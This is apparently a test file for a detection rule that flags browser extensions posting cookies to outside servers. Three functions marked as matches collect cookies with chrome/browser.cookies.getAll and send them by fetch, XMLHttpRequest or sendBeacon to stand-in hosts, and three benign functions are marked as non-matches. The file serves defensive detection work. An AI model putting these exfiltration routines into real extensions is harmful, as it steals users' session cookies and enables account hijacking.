// RULEID: awaited getAll then fetch POST, callback form with XMLHttpRequest, browser.* promise
//         form with sendBeacon
// OK: a cookie manager listing cookies, a POST of the extension's own settings, clearing cookies
async function collect(token) {
  const cookies = await chrome.cookies.getAll({ domain: "social.example" });
  const payload = { token, cookies: cookies.map((c) => `${c.name}=${c.value}`).join("; ") };
  // ruleid: js-extension-cookies-posted
  await fetch("https://cfg.ext-update.example/log", {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify(payload),
  });
}

function collectOld(url) {
  chrome.cookies.getAll({ url }, function (all) {
    const x = new XMLHttpRequest();
    // ruleid: js-extension-cookies-posted
    x.open("POST", "https://203.0.113.9/c");
    x.send(JSON.stringify(all));
  });
}

function collectFirefox(domain) {
  browser.cookies.getAll({ domain }).then((all) => {
    // ruleid: js-extension-cookies-posted
    navigator.sendBeacon("https://beacon.example/c", JSON.stringify(all));
  });
}

async function listForPopup(domain) {
  const cookies = await chrome.cookies.getAll({ domain });
  // ok: js-extension-cookies-posted
  return cookies.map((c) => ({ name: c.name, domain: c.domain, expires: c.expirationDate }));
}

async function saveSettings(settings) {
  // ok: js-extension-cookies-posted
  await fetch("https://api.tabsaver.example/v1/settings", { method: "POST", body: JSON.stringify(settings) });
}

async function clearSite(domain) {
  const cookies = await chrome.cookies.getAll({ domain });
  for (const c of cookies) {
    // ok: js-extension-cookies-posted
    await chrome.cookies.remove({ url: `https://${c.domain}${c.path}`, name: c.name });
  }
}
